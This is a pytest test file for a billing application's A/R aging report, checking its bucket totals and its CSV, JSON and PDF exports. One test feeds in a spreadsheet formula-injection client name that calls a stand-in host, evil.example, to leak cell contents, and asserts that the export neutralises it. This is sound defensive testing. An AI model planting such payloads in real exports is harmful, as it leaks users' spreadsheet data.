"""The A/R aging report (mspbill.reports.aging_report), its CSV, JSON and PDF, on a real SQLite file.

The office below is worked out by hand: every bucket, total and count expected
in these tests is a literal, computed in the comments from the invoices and
payments recorded, never by calling the code under test.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
from typing import Any

import pypdf
import pytest
from billing_helpers import d, issue_ids, make_client, one_time, setup_office

from mspbill.aging import AgingTotals
from mspbill.db.engine import Database
from mspbill.invoicing import create_credit_note, void_invoice
from mspbill.payments.manual import record_payment
from mspbill.pdf.aging import aging_pdf, render_aging
from mspbill.pdf.layout import CompanyBlock
from mspbill.reports import AsOfError
from mspbill.reports.aging_report import (
    AgingReport,
    ClientAging,
    CurrencyAging,
    aging_csv,
    aging_json,
    aging_report,
    client_items,
    items_csv,
)
from mspbill.validation import NotFoundError

# Run on SQLite and on PostgreSQL (tests/conftest.py).
pytestmark = pytest.mark.both_databases

AS_OF = d("2026-11-20")


def days_before(n: int) -> dt.date:
    return AS_OF - dt.timedelta(days=n)


# --- the hand-worked office ---------------------------------------------------------------

def build_office(db: Database) -> dict[str, int]:
    """The office of these tests (and of test_cli_reports); returns client and invoice ids by name.

    Company currency USD.  Terms 0 days (due on issue) unless said, so days past due = days since issue.
      Alpha Dental      A1 $1,000.00  91 days → over 90     A2 $200.00  90 days → 61–90
                        A3   $300.00   0 days → current
      Bravo Logistics   B1 $500.00  61 days → 61–90, $120.00 paid → $380.00 owed
                        B2 $250.00  60 → 31–60      B3 $75.50  31 → 31–60
                        B4  $40.00  30 → 1–30       B5 $12.34   1 → 1–30
                        B6 $999.00 voided: not owed
      Charlie Law       terms 30: C1 $800.00 issued 75 days ago, due 45 days ago → 31–60,
                        credit note $300.00 → $500.00 owed; C2 $60.00 issued 5 days ago, due in 25 → current
      Delta Café        D1 $100.00 paid with $150.00: nothing open, $50.00 credit
      Échelle Conseil   EUR: E1 €2,000.00 10 days → 1–30     E2 €450.00 95 days → over 90
      Foxtrot Farms     F1 $70.00 paid in full: nothing owed, no credit → not listed
      Golf Club         nothing at all → not listed
    """
    setup_office(db)
    ids = {
        "alpha": make_client(db, "Alpha Dental", payment_terms_days="0"),
        "bravo": make_client(db, "Bravo Logistics", payment_terms_days="0"),
        "charlie": make_client(db, "Charlie Law", payment_terms_days="30"),
        "delta": make_client(db, "Delta Café", payment_terms_days="0"),
        "echelle": make_client(db, "Échelle Conseil SARL", currency="EUR", payment_terms_days="0"),
        "foxtrot": make_client(db, "Foxtrot Farms", payment_terms_days="0"),
        "golf": make_client(db, "Golf Club", payment_terms_days="0"),
    }
    # Issued oldest first: numbers and issue dates go forward together.
    plan = [("E2", "echelle", "450.00", 95), ("A1", "alpha", "1000.00", 91), ("A2", "alpha", "200.00", 90),
            ("C1", "charlie", "800.00", 75), ("B1", "bravo", "500.00", 61), ("B2", "bravo", "250.00", 60),
            ("F1", "foxtrot", "70.00", 50), ("B6", "bravo", "999.00", 40), ("B3", "bravo", "75.50", 31),
            ("B4", "bravo", "40.00", 30), ("D1", "delta", "100.00", 20), ("E1", "echelle", "2000.00", 10),
            ("C2", "charlie", "60.00", 5), ("B5", "bravo", "12.34", 1), ("A3", "alpha", "300.00", 0)]
    for key, client, amount, age in plan:
        ids[key] = one_time(db, ids[client], ("Project work", "1", amount), title=f"Project {key}")
        issue_ids(db, [ids[key]], days_before(age))
    with db.write_session() as s, s.begin():
        record_payment(s, ids["B1"], "120.00", "check", received_on=d("2026-10-15"), today=AS_OF)
        record_payment(s, ids["D1"], "150.00", "check", received_on=d("2026-11-05"), today=AS_OF,
                       credit_excess=True)
        record_payment(s, ids["F1"], "70.00", "check", received_on=d("2026-10-05"), today=AS_OF)
        create_credit_note(s, ids["C1"], "Fee reduced as agreed", "300.00", issue_date=d("2026-11-10"))
        void_invoice(s, ids["B6"], "Issued twice")
    return ids


@pytest.fixture
def office(db) -> dict[str, int]:
    return build_office(db)


def _report(db, as_of: dt.date = AS_OF) -> AgingReport:
    with db.session() as s:
        return aging_report(s, as_of, today=AS_OF)


def _rows(section: CurrencyAging) -> list[tuple[object, ...]]:
    return [(r.client_name, r.buckets, r.total_cents, r.invoice_count, r.oldest_days_past_due, r.credit_cents)
            for r in section.rows]


# --- the report ----------------------------------------------------------------------------

def test_each_client_owes_what_was_worked_out_by_hand_in_each_bucket(db, office: dict[str, int]) -> None:
    report = _report(db)
    assert report.as_of == AS_OF and report.company_currency == "USD"
    assert [s.currency for s in report.sections] == ["USD", "EUR"]
    usd = report.section("USD")
    assert usd is not None
    # (name, (current, 1–30, 31–60, 61–90, over 90), total, invoices, oldest days past due, credit), largest first.
    assert _rows(usd) == [
        # A3 30,000 current; A2 20,000 at 90 days; A1 100,000 at 91 days: 150,000
        ("Alpha Dental", (30_000, 0, 0, 20_000, 100_000), 150_000, 3, 91, 0),
        # B4 4,000 + B5 1,234 = 5,234 (30 and 1 days); B2 25,000 + B3 7,550 = 32,550 (60 and 31 days);
        # B1 50,000 − 12,000 = 38,000 (61 days); the voided B6 is not owed.  5,234 + 32,550 + 38,000 = 75,784
        ("Bravo Logistics", (0, 5_234, 32_550, 38_000, 0), 75_784, 5, 61, 0),
        # C2 6,000 not yet due (current); C1 80,000 − 30,000 credited = 50,000, 45 days past due
        ("Charlie Law", (6_000, 0, 50_000, 0, 0), 56_000, 2, 45, 0),
        # Nothing open; 15,000 paid on a 10,000 invoice: 5,000 credit
        ("Delta Café", (0, 0, 0, 0, 0), 0, 0, 0, 5_000),
    ]
    # Column sums: current 30,000 + 6,000; 1–30 5,234; 31–60 32,550 + 50,000; 61–90 20,000 + 38,000;
    # over 90 100,000.  Total 36,000 + 5,234 + 82,550 + 58,000 + 100,000 = 281,784 on 3 + 5 + 2 invoices.
    assert usd.totals == AgingTotals("USD", (36_000, 5_234, 82_550, 58_000, 100_000), 10)
    assert usd.total_cents == 281_784 and usd.credit_cents == 5_000 and usd.client_count == 3
    assert usd.oldest_days_past_due == 91

    eur = report.section("EUR")
    assert eur is not None
    # E1 200,000 at 10 days; E2 45,000 at 95 days.
    assert _rows(eur) == [("Échelle Conseil SARL", (0, 200_000, 0, 0, 45_000), 245_000, 2, 95, 0)]
    assert eur.totals == AgingTotals("EUR", (0, 200_000, 0, 0, 45_000), 2)
    assert eur.client_count == 1 and eur.credit_cents == 0
    assert report.other_currencies == ("EUR",) and report.section("GBP") is None
    assert not report.is_empty and not report.nothing_owed


def test_paid_and_untouched_clients_are_not_listed(db, office: dict[str, int]) -> None:
    listed = {r.client_id for s in _report(db).sections for r in s.rows}
    assert office["delta"] in listed  # only credit: listed, so the report shows the credit held
    assert office["foxtrot"] not in listed and office["golf"] not in listed


def test_as_of_an_earlier_day_counts_only_what_had_happened_by_then(db, office: dict[str, int]) -> None:
    # As of 1 Oct 2026 (50 days earlier): A1 $1,000 (41 days) and A2 $200 (40 days) are 31–60; Bravo owes
    # B1 $500 (11 days, the $120 came on 15 Oct) and B2 $250 (10 days), both 1–30; C1 $800 issued 6 Sep,
    # due 6 Oct: current; F1 $70 issued that day and paid on 5 Oct: current; E2 €450 45 days: 31–60.
    # Nothing else was issued yet, and Delta had no credit.
    report = _report(db, d("2026-10-01"))
    usd = report.section("USD")
    assert usd is not None
    assert _rows(usd) == [
        ("Alpha Dental", (0, 0, 120_000, 0, 0), 120_000, 2, 41, 0),
        ("Charlie Law", (80_000, 0, 0, 0, 0), 80_000, 1, 0, 0),
        ("Bravo Logistics", (0, 75_000, 0, 0, 0), 75_000, 2, 11, 0),
        ("Foxtrot Farms", (7_000, 0, 0, 0, 0), 7_000, 1, 0, 0),
    ]
    eur = report.section("EUR")
    assert eur is not None and _rows(eur) == [("Échelle Conseil SARL", (0, 0, 45_000, 0, 0), 45_000, 1, 45, 0)]


def test_a_day_in_the_future_is_refused_with_a_sentence(db, office: dict[str, int]) -> None:
    with db.session() as s:
        with pytest.raises(AsOfError, match="in the future"):
            aging_report(s, AS_OF + dt.timedelta(days=1), today=AS_OF)
        with pytest.raises(AsOfError, match="in the future"):
            client_items(s, AS_OF + dt.timedelta(days=1), office["alpha"], today=AS_OF)


def test_the_drill_down_lists_the_clients_open_invoices(db, office: dict[str, int]) -> None:
    with db.session() as s:
        items = client_items(s, AS_OF, office["bravo"], today=AS_OF)
        assert client_items(s, AS_OF, office["golf"], today=AS_OF) == []
        with pytest.raises(NotFoundError, match="no client with ID 999"):
            client_items(s, AS_OF, 999, today=AS_OF)
    # Oldest due date first; B6 was voided.
    assert [(i.title, i.balance_cents, i.days_overdue, i.bucket.key) for i in items] == [
        ("Project B1", 38_000, 61, "61_90"), ("Project B2", 25_000, 60, "31_60"), ("Project B3", 7_550, 31, "31_60"),
        ("Project B4", 4_000, 30, "1_30"), ("Project B5", 1_234, 1, "1_30")]
    data = items_csv(items)
    assert data.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Invoice", "Issued", "Due", "Days past due", "Bucket", "Total", "Balance"]
    assert [r[1:] for r in rows[1:]] == [
        ["2026-09-20", "2026-09-20", "61", "61–90 days", "500.00", "380.00"],
        ["2026-09-21", "2026-09-21", "60", "31–60 days", "250.00", "250.00"],
        ["2026-10-20", "2026-10-20", "31", "31–60 days", "75.50", "75.50"],
        ["2026-10-21", "2026-10-21", "30", "1–30 days", "40.00", "40.00"],
        ["2026-11-19", "2026-11-19", "1", "1–30 days", "12.34", "12.34"]]
    assert all(r[0].startswith("INV-") for r in rows[1:])


# --- CSV and JSON ----------------------------------------------------------------------------

def test_the_csv_has_a_row_per_client_and_a_total_per_currency(db, office: dict[str, int]) -> None:
    data = aging_csv(_report(db))
    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["Client", "Currency", "Current", "1–30 days", "31–60 days", "61–90 days", "Over 90 days", "Total", "Credit",
         "Invoices", "Oldest days past due"],
        ["Alpha Dental", "USD", "300.00", "0.00", "0.00", "200.00", "1000.00", "1500.00", "0.00", "3", "91"],
        ["Bravo Logistics", "USD", "0.00", "52.34", "325.50", "380.00", "0.00", "757.84", "0.00", "5", "61"],
        ["Charlie Law", "USD", "60.00", "0.00", "500.00", "0.00", "0.00", "560.00", "0.00", "2", "45"],
        ["Delta Café", "USD", "0.00", "0.00", "0.00", "0.00", "0.00", "0.00", "50.00", "0", "0"],
        ["Total", "USD", "360.00", "52.34", "825.50", "580.00", "1000.00", "2817.84", "50.00", "10", "91"],
        ["Échelle Conseil SARL", "EUR", "0.00", "2000.00", "0.00", "0.00", "450.00", "2450.00", "0.00", "2", "95"],
        ["Total", "EUR", "0.00", "2000.00", "0.00", "0.00", "450.00", "2450.00", "0.00", "2", "95"],
    ]


def test_a_client_name_never_runs_as_a_formula_in_a_spreadsheet(db) -> None:
    setup_office(db)
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1 Networks", "-minus Ltd", "@home IT"]
    for age, name in zip((3, 2, 1, 0), names, strict=True):
        cid = make_client(db, name, payment_terms_days="0")
        issue_ids(db, [one_time(db, cid, ("Work", "1", "10.00"))], days_before(age))
    rows = list(csv.reader(io.StringIO(aging_csv(_report(db)).decode("utf-8-sig"), newline="")))
    assert sorted(r[0] for r in rows[1:-1]) == sorted("'" + n for n in names)
    assert rows[-1][:2] == ["Total", "USD"] and rows[-1][7] == "40.00"


def test_amounts_print_in_the_currencys_own_units(db) -> None:
    yen = CurrencyAging("JPY", (ClientAging(1, "東京システム株式会社", "JPY", (1500, 0, 0, 0, 0), 1500, 1, 0, 0),),
                        AgingTotals("JPY", (1500, 0, 0, 0, 0), 1), 0, 1)
    report = AgingReport(AS_OF, "JPY", (yen,))
    rows = list(csv.reader(io.StringIO(aging_csv(report).decode("utf-8-sig"), newline="")))
    assert rows[1] == ["東京システム株式会社", "JPY", "1500", "0", "0", "0", "0", "1500", "0", "1", "0"]
    assert aging_json(report)["sections"][0]["totals"]["total"] == "¥1,500"


def test_json_gives_cents_and_text_per_currency(db, office: dict[str, int]) -> None:
    document = aging_json(_report(db))
    assert document["as_of"] == "2026-11-20" and document["company_currency"] == "USD"
    assert document["nothing_owed"] is False and document["other_currencies"] == ["EUR"]
    assert [b["key"] for b in document["buckets"]] == ["current", "1_30", "31_60", "61_90", "over_90"]
    usd, eur = document["sections"]
    assert (usd["currency"], usd["company_currency"], eur["currency"], eur["company_currency"]) == (
        "USD", True, "EUR", False)
    assert usd["totals"] == {
        "buckets_cents": {"current": 36_000, "1_30": 5_234, "31_60": 82_550, "61_90": 58_000, "over_90": 100_000},
        "buckets": {"current": "$360.00", "1_30": "$52.34", "31_60": "$825.50", "61_90": "$580.00",
                    "over_90": "$1,000.00"},
        "total_cents": 281_784, "total": "$2,817.84", "credit_cents": 5_000, "credit": "$50.00",
        "invoice_count": 10, "client_count": 3, "oldest_days_past_due": 91}
    bravo = usd["clients"][1]
    assert bravo["client_name"] == "Bravo Logistics" and bravo["client_id"] == office["bravo"]
    assert bravo["buckets_cents"] == {"current": 0, "1_30": 5_234, "31_60": 32_550, "61_90": 38_000, "over_90": 0}
    assert (bravo["total_cents"], bravo["total"], bravo["invoice_count"], bravo["oldest_days_past_due"]) == (
        75_784, "$757.84", 5, 61)
    assert eur["totals"]["total"] == "€2,450.00" and eur["clients"][0]["client_name"] == "Échelle Conseil SARL"


# --- an office with nothing ------------------------------------------------------------------

def test_an_office_with_no_data_gets_an_empty_report(db) -> None:
    with db.session() as s:  # not even a company profile yet
        report = aging_report(s, AS_OF, today=AS_OF)
        pdf = aging_pdf(s, report)
    assert report.is_empty and report.nothing_owed and report.sections == () and report.other_currencies == ()
    assert report.company_currency == "USD"
    assert aging_csv(report) == codecs.BOM_UTF8 + (
        "Client,Currency,Current,1–30 days,31–60 days,61–90 days,Over 90 days,Total,Credit,Invoices,"
        "Oldest days past due\r\n").encode()
    assert aging_json(report)["sections"] == [] and aging_json(report)["nothing_owed"] is True
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    text = " ".join(" ".join(p.extract_text() for p in reader.pages).split())
    assert "Nothing is owed as of 20 Nov 2026." in text and len(reader.pages) == 1


# --- the PDF --------------------------------------------------------------------------------

def _fonts(reader: pypdf.PdfReader) -> dict[str, bool]:
    """Base font name → embedded, over every page."""
    found: dict[str, bool] = {}
    for page in reader.pages:
        resources: Any = page["/Resources"]
        for ref in resources["/Font"].values():
            font: Any = ref.get_object()
            descendants = font.get("/DescendantFonts")
            descriptor = (descendants[0].get_object() if descendants else font).get("/FontDescriptor")
            found[str(font["/BaseFont"])] = descriptor is not None and any(
                k in descriptor.get_object() for k in ("/FontFile", "/FontFile2", "/FontFile3"))
    return found


def test_the_pdf_shows_each_currency_with_its_clients_and_totals(db, office: dict[str, int]) -> None:
    with db.session() as s:
        pdf = aging_pdf(s, _report(db))
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    text = " ".join(" ".join(p.extract_text() for p in reader.pages).split())
    for expected in ("Acme IT", "A/R aging", "as of 20 Nov 2026", "Alpha Dental", "Bravo Logistics", "Charlie Law",
                     "Delta Café", "Échelle Conseil SARL", "$1,500.00", "$757.84", "$2,817.84", "$50.00",
                     "Total (USD)", "Total (EUR)", "€2,450.00", "OVER 90 DAYS",
                     "not added to the USD totals", "Page 1 of"):
        assert expected in text, expected
    assert "Foxtrot Farms" not in text and "Golf Club" not in text
    assert text.index("Alpha Dental") < text.index("Bravo Logistics") < text.index("Échelle Conseil SARL")
    assert reader.metadata is not None
    assert reader.metadata.title == "A/R aging as of 20 Nov 2026" and reader.metadata.author == "Acme IT"
    fonts = _fonts(reader)
    assert fonts and all(fonts.values()), fonts
    assert not any("Helvetica" in name for name in fonts)
    width, height = reader.pages[0].mediabox.width, reader.pages[0].mediabox.height
    assert (float(width), float(height)) == (792.0, 612.0)  # US letter (the company's paper), landscape


LONG_NAME = "Supercalifragilistic Regional Veterinary Hospitals and Emergency Animal Clinics of the Pacific " * 3


def _big_report(clients: int) -> AgingReport:
    rows = []
    for n in range(clients):
        name = {0: LONG_NAME.strip(), 1: "株式会社テスト医療法人さくら会", 2: "Łódź IT Sp. z o.o."}.get(n, f"Client {n:03d}")
        cents = 1_000_000 - n * 100
        rows.append(ClientAging(n + 1, name, "USD", (cents, 0, 0, 0, 0), cents, 1, 0, 0))
    total = sum(r.total_cents for r in rows)
    section = CurrencyAging("USD", tuple(rows), AgingTotals("USD", (total, 0, 0, 0, 0), clients), 0, clients)
    return AgingReport(AS_OF, "USD", (section,))


def test_a_long_report_runs_over_pages_with_the_head_row_on_each(db) -> None:
    company = CompanyBlock("Acme IT", (), "", "", "", None, "a4", "")
    rendered = render_aging(_big_report(120), company)
    reader = pypdf.PdfReader(io.BytesIO(rendered.data))
    pages = len(reader.pages)
    assert pages > 1 and rendered.pages == pages
    assert float(reader.pages[0].mediabox.width) == pytest.approx(841.89, abs=0.01)  # A4 landscape
    for number, page in enumerate(reader.pages, start=1):
        text = page.extract_text()
        assert "CLIENT" in text and "OVER 90 DAYS" in text, number  # the head row repeats
        assert f"Page {number} of {pages}" in text
    text = " ".join(" ".join(p.extract_text() for p in reader.pages).split())
    for n in (3, 60, 119):
        assert f"Client {n:03d}" in text
    assert "株式会社テスト医療法人さくら会" in text and "Łódź IT Sp. z o.o." in text
    # 120 × $10,000.00 less 100 × (0 + 1 + … + 119) cents = 120,000,000 − 714,000 = 119,286,000 cents
    assert "$1,192,860.00" in text
    fonts = _fonts(reader)
    assert all(fonts.values()) and any("Fallback" in f for f in fonts) and not any("Helvetica" in f for f in fonts)


def test_a_long_client_name_wraps_inside_its_column(db) -> None:
    company = CompanyBlock("Acme IT", (), "", "", "", None, "letter", "")
    reader = pypdf.PdfReader(io.BytesIO(render_aging(_big_report(3), company).data))
    placed: list[tuple[float, float, str]] = []

    def visit(text: str, cm: list[float], tm: list[float], font: object, size: float) -> None:
        if text.strip():
            placed.append((tm[4] + cm[4], tm[5] + cm[5], text))

    reader.pages[0].extract_text(visitor_text=visit)
    pieces = [(x, y) for x, y, t in placed if "Supercalifragilistic" in t or "Veterinary" in t]
    # Several lines, each starting at the client column's left edge (the page margin), none running on
    # into the figures: the first figure column starts at the same height as the name's first line.
    assert len({round(y) for _, y in pieces}) >= 3
    assert {round(x) for x, _ in pieces} == {54}  # 50 pt margin + 4 pt cell padding
    text = " ".join(reader.pages[0].extract_text().split())
    assert text.count("Supercalifragilistic") == 3
